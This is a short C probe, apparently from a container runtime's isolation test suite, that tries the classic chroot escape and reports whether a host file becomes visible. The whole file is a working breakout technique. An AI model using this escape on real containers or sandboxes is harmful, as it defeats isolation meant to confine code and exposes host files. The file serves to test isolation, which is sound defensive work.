/* The classic chroot escape: chroot(2) changes the root but not the working directory, and
 * the kernel only stops ".." at the *current* root. So: chroot into a subdirectory (we stay
 * outside it), climb ".." far enough to reach the real root of the mount namespace, and
 * chroot(".") there. Under `minibox run --chroot` that real root is the host's; under
 * pivot_root the host's root is no longer in the mount namespace at all (the old root was
 * detached), so the climb ends at the container's own root.
 * Needs CAP_SYS_CHROOT, which Docker keeps. usage: chroot_escape HOST_FILE */
#include "probe.h"
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") != 0)
        blocked("chroot(/tmp/jail)");
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0)
            blocked("chdir(..)");
    if (chroot(".") != 0)
        blocked("chroot(.)");
    if (access(argv[1], F_OK) != 0)
        blocked("access(host file) after climbing to the mount namespace's root");
    escaped("climbed out of the root: the host's %s is visible", argv[1]);
}
